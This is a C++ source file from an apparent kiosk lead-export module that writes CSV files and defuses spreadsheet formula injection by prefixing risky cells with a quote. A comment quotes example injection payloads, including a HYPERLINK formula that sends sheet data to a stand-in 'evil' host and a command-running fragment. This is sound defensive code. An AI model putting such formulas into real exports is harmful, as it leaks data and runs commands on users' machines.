#include "kiosk/export/csv_writer.h"

#include <algorithm>

#include "kiosk/export/file_sink.h"
#include "kiosk/export/lead_columns.h"

namespace etalase::exporting {

namespace {

// CSV injection (OWASP): a spreadsheet runs a cell that starts with = + - @ (or TAB or CR before
// one) as a formula, e.g. =HYPERLINK("http://evil/?"&A1) leaking the sheet. Such a cell gets a
// single quote in front. That includes every E.164 phone (+62...): OWASP makes no exception, and
// "+1+cmd|..." typed into the phone field would run. What people then see: Excel takes the quote
// as its "this is text" prefix and hides it (it shows in the edit line); LibreOffice Calc 7.4
// keeps it as a visible first character (checked with a headless conversion). Either way the
// number stays text, its + and leading zeros intact. Programs wanting the data unchanged should
// read the XLSX (typed cells, no quote) or JSON Lines export.
bool startsLikeFormula(std::string_view value) {
  if (value.empty()) return false;
  switch (value.front()) {
    case '=': case '+': case '-': case '@': case '\t': case '\r': return true;
    default: return false;
  }
}

bool needsQuotes(std::string_view value) {
  // A plain loop: string_view::find_first_of runs memchr over the set for every character.
  return std::any_of(value.begin(), value.end(),
                     [](char c) { return c == ',' || c == '"' || c == '\r' || c == '\n'; });
}

class CsvWriter final : public LeadWriter {
 public:
  CsvWriter(FileSink sink, bool merged) : m_sink(std::move(sink)), m_merged(merged) {}

  std::optional<Error> writeRow(const std::vector<std::string_view>& cells) {
    m_line.clear();
    for (std::size_t i = 0; i < cells.size(); ++i) {
      if (i > 0) m_line += ',';
      appendCsvField(m_line, cells[i]);
    }
    m_line += "\r\n";
    return m_sink.append(m_line);
  }

  using LeadWriter::write;
  std::optional<Error> write(const leads::Lead& lead, const MergedFields* merged) override {
    leadCells(lead, m_cells, m_products);
    if (m_merged) appendMergedCells(merged, m_cells, m_stands);
    return writeRow(m_cells);
  }

  std::optional<Error> finish() override { return m_sink.close(); }

  FileSink& sink() { return m_sink; }

 private:
  FileSink m_sink;
  bool m_merged;
  std::vector<std::string_view> m_cells;
  std::string m_products;
  std::string m_stands;
  std::string m_line;  // reused for every row
};

}  // namespace

void appendCsvField(std::string& out, std::string_view value) {
  const bool neutralise = startsLikeFormula(value);
  if (!neutralise && !needsQuotes(value)) {
    out += value;
    return;
  }
  // Always quoted once neutralised: the quote then sits inside the field, where every reader
  // keeps it as part of the text.
  out += '"';
  if (neutralise) out += '\'';
  for (std::size_t quote; (quote = value.find('"')) != std::string_view::npos;) {
    out.append(value.substr(0, quote + 1));
    out += '"';
    value.remove_prefix(quote + 1);
  }
  out += value;
  out += '"';
}

Result<std::unique_ptr<LeadWriter>> openCsvWriter(const std::filesystem::path& file,
                                                  const WriterOptions& options) {
  auto sink = FileSink::create(file);
  if (!sink) return sink.error();
  auto writer = std::make_unique<CsvWriter>(std::move(sink.value()), options.mergedColumns);
  if (options.csvByteOrderMark) {
    if (auto error = writer->sink().append("\xEF\xBB\xBF")) return *error;
  }
  if (auto error = writer->writeRow(leadColumnNames(options.mergedColumns))) return *error;
  return std::unique_ptr<LeadWriter>(std::move(writer));
}

}  // namespace etalase::exporting
